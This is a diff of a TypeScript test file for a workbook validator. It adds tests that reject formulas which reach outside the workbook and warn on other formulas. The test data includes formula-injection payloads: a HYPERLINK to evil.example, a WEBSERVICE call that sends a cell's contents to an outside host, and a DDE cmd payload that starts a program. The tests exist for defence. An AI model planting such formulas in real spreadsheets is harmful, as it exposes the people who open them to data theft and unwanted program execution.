@@ -64,9 +64,11 @@ describe('a valid workbook', () => {
     expect(result).toBeDefined();
   });
 
-  it('judges a formula cell by its value', () => {
+  it('judges a formula cell by its value (the formula itself a warning: issue 16)', () => {
     const formula: Cell = { type: 'text', value: '111111111111', formula: '=TEXT(111111111111,"000000000000")' };
-    expect(findings(edit('Accounts', 2, 2, formula))).toEqual([]);
+    const result = validateWorkbook(edit('Accounts', 2, 2, formula));
+    expect(result.findings.map((f) => [f.code, f.cell])).toEqual([['formula-in-cell', 'C3']]);
+    expect(result.enrollment?.accounts?.[1]?.accountId).toBe('111111111111');
   });
 });
 
@@ -330,6 +332,97 @@ describe('cell values', () => {
     expectOne(edit('Enrollment', 4, 1, 'finance@acme'), 'email-invalid', 'Enrollment', 'B5');
     expectOne(edit('Enrollment', 4, 1, 12), 'email-invalid', 'Enrollment', 'B5');
     none(edit('Accounts', 2, 1, null), 'email-invalid'); // the account e-mail is optional
+  });
+
+  it('formula-reaches-out: the issue’s hyperlink, web and DDE payloads in contract cells are errors, at their cells', () => {
+    const withFormula = (value: string, formula: string): Cell => ({ type: 'text', value, formula });
+    const hyperlink = expectOne(
+      edit(
+        'Enrollment',
+        1,
+        1,
+        withFormula('Acme Cloud Partners', '=HYPERLINK("http://evil.example/x","Acme Cloud Partners")'),
+      ),
+      'formula-reaches-out',
+      'Enrollment',
+      'B2',
+    );
+    expect(hyperlink.message).toBe(
+      '"Value" holds a formula that is a hyperlink (HYPERLINK). Spot\'s staff open this workbook in Excel, so no such formula is accepted in it: replace the formula by its value (copy the cell, then Paste Special > Values) or type the value in.',
+    );
+    const web = expectOne(
+      edit(
+        'Subset Workflows',
+        1,
+        0,
+        withFormula('Subset 1', '=IF(WEBSERVICE("https://x.example/?"&A1)="","Subset 1","Subset 1")'),
+      ),
+      'formula-reaches-out',
+      'Subset Workflows',
+      'A2',
+    );
+    expect(web.message).toContain('fetches data from the web (WEBSERVICE)');
+    const dde = expectOne(
+      edit('Accounts', 1, 0, { type: 'number', value: 0, formula: "=cmd|' /C calc'!A0" }),
+      'formula-reaches-out',
+      'Accounts',
+      'A2',
+    );
+    expect(dde.message).toContain('starts another program through DDE (|)');
+    // Judged by value as well: the name stays (no cascade into Accounts), the ID is still checked.
+    none(edit('Subset Workflows', 1, 0, withFormula('Subset 1', '=HYPERLINK("x","Subset 1")')), 'subset-unknown');
+    expectOne(
+      edit('Accounts', 1, 2, { type: 'text', value: '12345', formula: '=HYPERLINK("http://x","12345")' }),
+      'account-id-invalid',
+      'Accounts',
+      'C2',
+    );
+    // A formula with an empty result is still reported.
+    expectOne(
+      edit('Accounts', 1, 0, { type: 'text', value: '', formula: '=HYPERLINK("http://x","")' }),
+      'formula-reaches-out',
+      'Accounts',
+      'A2',
+    );
+    // Outside the contract's columns (the user's own column F): not the contract's business.
+    none(edit('Accounts', 1, 5, withFormula('x', '=HYPERLINK("http://x","x")')), 'formula-reaches-out');
+  });
+
+  it('formula-in-cell: any other formula is a warning, with its value; the value is judged as typed', () => {
+    const f = expectOne(
+      edit('Enrollment', 3, 1, { type: 'text', value: '012345678901', formula: '=TEXT(12345678901,"000000000000")' }),
+      'formula-in-cell',
+      'Enrollment',
+      'B4',
+    );
+    expect(f.severity).toBe('warning');
+    expect(f.message).toBe(
+      '"Value" is computed by the formula =TEXT(12345678901,"000000000000"); it is judged by its value, "012345678901". Replace the formula by its value (Paste Special > Values) so that the value cannot change after you submit.',
+    );
+    expect(
+      validateWorkbook(edit('Enrollment', 3, 1, { type: 'text', value: '012345678901', formula: '=A1' })).enrollment,
+    ).not.toBeNull();
+    expectOne(
+      edit('Enrollment', 3, 1, { type: 'number', value: 12345, formula: '=12345' }),
+      'account-id-leading-zeros-lost',
+      'Enrollment',
+      'B4',
+    );
+    const e = expectOne(
+      edit('Accounts', 1, 2, { type: 'error', value: '#REF!', formula: '=#REF!' }),
+      'formula-in-cell',
+      'Accounts',
+      'C2',
+    );
+    expect(e.message).toContain('its value, #REF!');
+  });
+
+  it('email-too-long: more than 254 characters, even of a valid shape, with the length named', () => {
+    const long = `${'a'.repeat(64)}@${'b'.repeat(186)}.com`; // 255 characters
+    const f = expectOne(edit('Enrollment', 4, 1, long), 'email-too-long', 'Enrollment', 'B5');
+    expect(f.message).toContain('255 characters');
+    none(edit('Enrollment', 4, 1, long.slice(1)), 'email-too-long'); // 254: an address
+    none(edit('Enrollment', 4, 1, long.slice(1)), 'email-invalid');
   });
 });
 
